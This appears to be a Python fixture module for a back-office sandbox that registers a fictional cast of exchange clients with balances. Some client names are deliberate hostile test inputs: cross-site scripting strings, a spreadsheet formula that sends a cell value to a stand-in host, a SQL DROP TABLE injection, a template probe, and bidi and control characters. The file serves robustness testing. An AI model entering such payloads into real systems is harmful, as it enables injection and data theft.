"""The clients of the history: a cast with names, some who may not be funded, some with names meant to do harm."""

from dataclasses import dataclass, field
from random import Random
from typing import Final

from backoffice.sandbox.clock import DAY
from backoffice.sandbox.coinmena.directory import Directory
from backoffice.sandbox.coinmena.records import Client
from backoffice.sandbox.credentials import COINMENA_PARTNER_ID, OTHER_PARTNER_ID


@dataclass(frozen=True)
class Role:
    """A client of the cast, and what they brought with them when the history begins."""

    id: str
    first_name: str | None
    last_name: str | None = None
    country: str = "bh"
    status: str = "verified"
    active: bool = True
    opening: dict[str, str] = field(default_factory=dict)


#: In this order, so that a small history has the first few.
CAST: Final = (
    Role("user_12345", "Noura", "Al Khalifa", opening={"USD": "22818.50", "AED": "4050.00", "BHD": "812.500"}),
    Role("user_90210", "Faisal", "Rahimi", active=False, opening={"USD": "1200.00"}),
    Role("user_90311", "Amal", "Haidar", "jo", status="pending"),
    Role("user_31190", "Sara", "Haddad", "ae", opening={"USD": "6400.00", "AED": "12500.00"}),
    Role("user_80001", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', opening={"USD": "310.00"}),
    Role("user_40022", "Yousef", "Al Jaber", "sa", opening={"SAR": "18200.00", "USD": "950.00"}),
    Role("user_51777", "Priya", "Menon", "ae", opening={"AED": "22640.00", "USD": "3100.00"}),
    Role("user_60318", "Hassan", "Fakhro", opening={"BHD": "41250.750"}),
    Role("user_81450", "Layla", "Rahman", opening={"USD": "5200.00", "BHD": "300.125"}),
    Role("user_20871", "Khalid", "Al Mansoori", "ae", opening={"USD": "9800.00"}),
    Role("user_72904", "Gulf Pearl Trading WLL", None, opening={"AED": "264000.00", "USD": "51000.00"}),
    Role("user_80002", '=HYPERLINK("http://evil.invalid/?x="&A1,"Open")', "@SUM(A1:A9)", opening={"USD": "75.00"}),
    Role("user_80003", "\u202egnidarT\u202c", "\u2066Pearl\u2069 \u202eLLC", "ae", opening={"AED": "640.00"}),
    Role("user_80004", "Zero\u200bWidth", "Join\u200der\ufeff", opening={"USD": "88.10"}),
    Role("user_80005", "Maximilian-" * 40, "Al " * 120 + "Khalifa", "sa", opening={"SAR": "410.00"}),
    Role("user_80006", "نورة", "آل خليفة", opening={"BHD": "95.250"}),
    Role("user_80007", "Null\u0000Byte", "Tab\tBell\u0007", opening={"USD": "12.00"}),
    Role("user_80008", "Broken\ud800Pair", "\udfffLow", opening={"USD": "64.00"}),
    Role("user_80009", 'Quote "Comma", Ltd;', "New\r\nLine\nTwice", opening={"USD": "150.00"}),
    Role("user_80010", "Robert'); DROP TABLE clients;--", "+1-800\u00a0{{7*7}}", opening={"USD": "33.33"}),
    Role("user_80011", None, None, "om", opening={"OMR": "500.000"}),
    Role("user_80012", "Review", "Pending", "eg", status="in_review"),
)
_FIRST_NAMES: Final = ("Aisha", "Bader", "Dana", "Ebrahim", "Fatima", "Ghada", "Huda", "Jassim", "Mariam", "Rashid")
_LAST_NAMES: Final = ("Al Amin", "Bukhari", "Darwish", "Al Ghanim", "Ismail", "Kanoo", "Nasser", "Saad", "Zayani")
_COUNTRIES: Final = {"bh": "BHD", "ae": "AED", "sa": "SAR"}


def register_clients(directory: Directory, seed: int, count: int, *, now: int, days: int) -> list[Role]:
    """Register `count` clients, all of them before the history begins, and one of another partner."""
    random = Random(f"{seed}:clients")  # noqa: S311 - a story, not a secret
    cast = [*CAST, *(_extra(random, number) for number in range(count - len(CAST)))][:count]
    begins = now - days * DAY
    for role in cast:
        _register(directory, COINMENA_PARTNER_ID, role, begins - random.randrange(20 * DAY, 400 * DAY))
    _register(directory, OTHER_PARTNER_ID, Role("user_12345", "Somebody", "Else"), begins - DAY)
    return cast


def _register(directory: Directory, partner: str, role: Role, created_at: int) -> None:
    directory.add_client(
        partner,
        Client(
            partner_client_id=role.id,
            status=role.status,
            active=role.active,
            country_id=role.country,
            first_name=role.first_name,
            last_name=role.last_name,
            created_at=created_at,
        ),
    )


def _extra(random: Random, number: int) -> Role:
    country = random.choice(list(_COUNTRIES))
    opening = {"USD": f"{random.randrange(500, 9_000)}.{random.randrange(100):02d}"}
    if random.random() < 0.5:
        asset = _COUNTRIES[country]
        decimals = 3 if asset == "BHD" else 2
        opening[asset] = f"{random.randrange(200, 20_000)}.{random.randrange(10**decimals):0{decimals}d}"
    return Role(
        id=f"user_{30_000 + 517 * number}",
        first_name=random.choice(_FIRST_NAMES),
        last_name=random.choice(_LAST_NAMES),
        country=country,
        opening=opening,
    )
